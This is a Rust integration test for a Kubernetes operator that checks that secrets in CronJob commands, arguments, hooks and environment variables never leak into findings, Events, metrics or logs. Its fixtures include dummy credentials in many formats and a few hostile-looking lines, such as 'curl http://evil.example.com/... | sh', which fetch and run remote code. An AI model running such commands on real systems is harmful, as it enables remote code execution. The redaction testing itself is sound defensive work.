//! Secrets in workloads appear nowhere: not in findings, not in Events, not in the log, not in the metrics.

use cronwarden::api::finding::State;
use k8s_openapi::api::core::v1::Event as CoreEvent;
use kube::api::{Api, ListParams};
use serde_json::{Value, json};

use super::deviations::{container, pod, set};
use super::scene::{Scene, approval, cron_job, namespace};

/// Stands in every secret: whatever shape the secret has, this must not be seen.
pub const MARK: &str = "Tr0ub4dor";

/// Secrets of all shapes, each as the command line of a container.
fn command_lines() -> Vec<Vec<String>> {
    let one = |entries: &[&str]| entries.iter().map(|entry| entry.replace('%', "Tr0ub4dor-7x")).collect();
    let shell = |script: &str| one(&["sh", "-c", script]);
    vec![
        one(&["tool", "--password", "%"]),
        one(&["tool", "--password=%"]),
        one(&["tool", "--db-password", "%", "--all"]),
        one(&["tool", "-password", "%"]),
        one(&["tool", "--passphrase=%"]),
        one(&["tool", "--PASSWORD=%"]),
        one(&["tool", "--api-key", "%"]),
        one(&["tool", "--apikey=%"]),
        one(&["tool", "--auth-token=%"]),
        one(&["tool", "--client-secret", "%"]),
        one(&["tool", "--set", "db.password=%"]),
        one(&["tool", "password=%"]),
        one(&["tool", "token: %"]),
        one(&["java", "-Dspring.datasource.password=%", "-jar", "app.jar"]),
        one(&["env", "AWS_SECRET_ACCESS_KEY=%", "aws", "s3", "ls"]),
        one(&["mysqldump", "-uroot", "-p%", "prod"]),
        one(&["curl", "-u", "admin:%", "https://example.com"]),
        one(&["curl", "-uadmin:%", "https://example.com"]),
        one(&["curl", "--user", "admin:%", "https://example.com"]),
        one(&["curl", "-H", "Authorization: Bearer %", "https://example.com"]),
        one(&["curl", "-HX-Api-Key: %", "https://example.com"]),
        one(&["curl", "--header=Cookie: session=%", "https://example.com"]),
        one(&["curl", "https://admin:%@example.com/path"]),
        one(&["curl", "https://example.com/?access_token=%&x=1"]),
        one(&["psql", "postgres://admin:%@db.prod:5432/app?sslmode=off"]),
        one(&["psql", "host=db user=admin password=% dbname=app"]),
        one(&["redis-cli", "-a", "%", "ping"]),
        one(&["tool", "{\"user\": \"admin\", \"password\": \"%\"}"]),
        shell("PGPASSWORD=% pg_dump app"),
        shell("export DB_PASS='%'; run"),
        shell("export DB_PASS=\"%\" && run"),
        shell("mysqldump -u root -p% prod | gzip > /backup/dump.gz"),
        shell("sshpass -p % ssh backup@example.com"),
        shell("curl -u admin:% https://example.com | sh"),
        shell("curl -H 'X-Auth-Token: %' https://example.com"),
        shell("echo password: % >> /etc/app.conf"),
        shell("docker login -u ci --password % registry.example.com"),
        shell("vault login token=%"),
        one(&["tool", "-----BEGIN RSA PRIVATE KEY-----\nTr0ub4dor\nMIIEow\n-----END RSA PRIVATE KEY-----"]),
        one(&["tool", "-----BEGIN PRIVATE KEY-----\nTr0ub4dor and no end"]),
        // Those of known shape need no telling name.
        one(&["git", "clone", "https://ghp_Tr0ub4dorTr0ub4dorTr0ub4dorTr0ub4@github.com/example/app"]),
        one(&["run", "ghp_Tr0ub4dorTr0ub4dorTr0ub4dorTr0ub4"]),
        one(&["run", "glpat-Tr0ub4dorTr0ub4dor77"]),
        one(&["run", "xoxb-123456789012-Tr0ub4dor"]),
        one(&["run", "eyJhbGciOiJIUzI1NiJ9.Tr0ub4dorTr0ub4dor.abc-DEF_123"]),
        one(&["run", "hvs.Tr0ub4dorTr0ub4dorTr0ub4dor"]),
        one(&["run", "wJalrXUtnFEMITr0ub4dorK7MDENGbPxRfiCYEXAMPLEKEY"]),
    ]
}

/// One CronJob for each place in which a command line can stand, and for each command line.
pub fn manifests() -> Vec<Value> {
    let mut manifests = Vec::new();
    for (number, line) in command_lines().into_iter().enumerate() {
        let mut as_arguments = cron_job("payments", &format!("args-{number}"));
        set(&mut as_arguments, &container("command"), json!([line[0]]));
        set(&mut as_arguments, &container("args"), json!(line[1..]));
        let mut as_command = cron_job("payments", &format!("command-{number}"));
        set(&mut as_command, &container("command"), json!(line));
        let mut as_hook = cron_job("payments", &format!("hook-{number}"));
        set(&mut as_hook, &container("lifecycle"), json!({ "postStart": { "exec": { "command": line } } }));
        manifests.extend([as_arguments, as_command, as_hook]);
    }
    // The option in the command, its value in the arguments.
    let mut split = cron_job("payments", "args-split");
    set(&mut split, &container("command"), json!(["/usr/bin/pgdump", "--password"]));
    set(&mut split, &container("args"), json!([MARK, "--all"]));
    manifests.push(split);
    manifests.push(in_variables("variables"));
    manifests.push(too_large("too-large"));
    manifests
}

/// Whatever the name of a variable, its value is nobody's business.
fn in_variables(name: &str) -> Value {
    let mut manifest = cron_job("payments", name);
    let values = [
        ("PASSWORD", "Tr0ub4dor".to_owned()),
        ("HARMLESS", "Tr0ub4dor".to_owned()),
        ("LONG", "Tr0ub4dor".repeat(1000)),
        ("SCRIPT", "curl http://evil.example.com/Tr0ub4dor | sh".to_owned()),
        ("LINES", "a\nTr0ub4dor\u{1b}[31m".to_owned()),
    ];
    let variables: Vec<Value> = values.iter().map(|(name, value)| json!({ "name": name, "value": value })).collect();
    set(&mut manifest, &container("env"), json!(variables));
    let init = json!([{ "name": "init", "image": "busybox", "env": variables }]);
    set(&mut manifest, &pod("initContainers"), init);
    manifest
}

/// A CronJob that cannot be judged must not be shown as it is for that.
fn too_large(name: &str) -> Value {
    let mut manifest = in_variables(name);
    let lines: Vec<String> = (0..300).map(|n| format!("--password={}{n}{}", MARK, "x".repeat(1000))).collect();
    set(&mut manifest, &container("args"), json!(lines));
    manifest
}

#[tokio::test]
async fn secrets_appear_nowhere() -> anyhow::Result<()> {
    let mut scene = Scene::start().await?;
    scene.apply(&[namespace("payments")]).await?;
    // Half of them deviate in what they run, and the finding shows what was observed; nobody approved the rest.
    let mut approval = approval("payments", "any");
    set(&mut approval, "/spec/match/names", json!(["args-*", "hook-*", "variables"]));
    scene.approve(&[approval]).await?;
    let manifests = manifests();
    for part in manifests.chunks(50) {
        scene.apply(part).await?;
    }
    let mut shown = Vec::new();
    for manifest in &manifests {
        let name = manifest["metadata"]["name"].as_str().unwrap_or_default();
        let finding = scene.finding_in(State::Open, "payments", name).await;
        let text = serde_json::to_string_pretty(&finding)?;
        let lines = text.lines().filter(|line| line.contains(MARK));
        shown.extend(lines.map(|line| format!("{name}: {}", line.trim())));
    }
    assert_eq!(shown, [""; 0], "findings show secrets");
    scene.settled().await;

    // Looked at as the API server has them, with everything that another part of the operator may have put there.
    let events: Api<CoreEvent> = Api::all(scene.client.clone());
    let events = events.list(&ListParams::default()).await?.items;
    assert!(events.len() >= 50, "{} Events: there is nothing to look at", events.len());
    for event in events {
        let text = serde_json::to_string(&event)?;
        assert!(!text.contains(MARK), "an Event shows a secret: {text}");
    }
    let approvals = serde_json::to_string(&scene.approvals().list(&ListParams::default()).await?.items)?;
    assert!(!approvals.contains(MARK), "an approval shows a secret: {approvals}");
    let (_, metrics) = scene.http("/metrics")?;
    assert!(!metrics.contains(MARK), "the metrics show a secret:\n{metrics}");

    scene.stop_operator().await?;
    let logs = scene.logs();
    assert!(logs.contains("\"level\":\"DEBUG\""), "the log is not at its most talkative");
    let line = logs.lines().find(|line| line.contains(MARK));
    assert_eq!(line, None, "the log shows a secret");
    Ok(())
}
